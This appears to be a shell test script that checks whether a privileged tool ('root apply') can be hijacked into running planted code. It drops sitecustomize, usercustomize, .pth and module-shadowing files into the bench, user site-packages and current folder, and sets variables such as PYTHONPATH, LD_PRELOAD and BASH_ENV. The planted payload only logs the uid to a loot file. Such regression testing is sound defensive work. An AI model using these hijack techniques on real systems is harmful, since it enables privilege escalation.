# First step: modules and start-up files of Python's in the bench, the home and the current folder.
. "$(dirname "$0")/lib.sh"
site=$(python3 -c 'import site; print(site.getusersitepackages())')
for folder in "$BENCH" "$site" "$HOME/attack.cwd"; do
    mkdir -p "$folder"
    for name in sitecustomize usercustomize click redis yaml prodgen supervisor encodings json; do
        echo "import os; open('$LOOT','a').write(f'{os.getuid()}\n')" >"$folder/$name.py"
    done
    echo "import os; open('$LOOT','a').write(f'{os.getuid()}\n')" >"$folder/x.pth"
    echo "home = $folder" >"$folder/pyvenv.cfg"
done
cd "$HOME/attack.cwd"
python3 -c "import click" # it works, for whoever starts Python here
export PYTHONPATH=$PWD PYTHONHOME=$PWD PYTHONSTARTUP=$PWD/json.py PYTHONINSPECT=1 PYTHONUSERBASE=$PWD
export LD_PRELOAD=$PWD/x.so BASH_ENV=$PWD/x ENV=$PWD/x LOCPATH=$PWD LANG=xx_YY LC_ALL=POSIX PYTHONUTF8=0
restart
root apply --yes -C "$BENCH"
rm -rf "$site" "$BENCH"/*.py
